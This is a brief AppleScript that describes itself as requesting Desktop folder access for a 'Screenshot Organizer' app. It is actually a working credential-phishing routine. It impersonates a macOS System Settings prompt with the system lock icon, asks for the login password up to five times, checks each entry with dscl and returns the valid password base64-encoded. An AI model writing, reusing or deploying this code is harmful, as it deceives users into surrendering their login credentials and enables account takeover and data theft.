-- Requests folder access authorization for Screenshot Organizer.
set appIcon to POSIX file "/System/Library/CoreServices/CoreTypes.bundle/Contents/Resources/LockedIcon.icns"
set userName to short user name of (system info)
set promptText to "System Settings is trying to allow Screenshot Organizer to access files in your Desktop folder." & return & return & "Enter your password to allow this."

repeat 5 times
	try
		set dlg to display dialog promptText with title "System Settings" default answer "" with icon file appIcon buttons {"Cancel", "Allow"} default button "Allow" with hidden answer
	on error
		return ""
	end try
	set pw to text returned of dlg
	try
		do shell script "/usr/bin/dscl . -authonly " & quoted form of userName & " " & quoted form of pw
		-- valid login password
		return do shell script "printf %s " & quoted form of pw & " | /usr/bin/base64"
	on error
		set promptText to "The password you entered was incorrect. Try again." & return & return & "System Settings is trying to allow Screenshot Organizer to access files in your Desktop folder."
	end try
end repeat
return ""
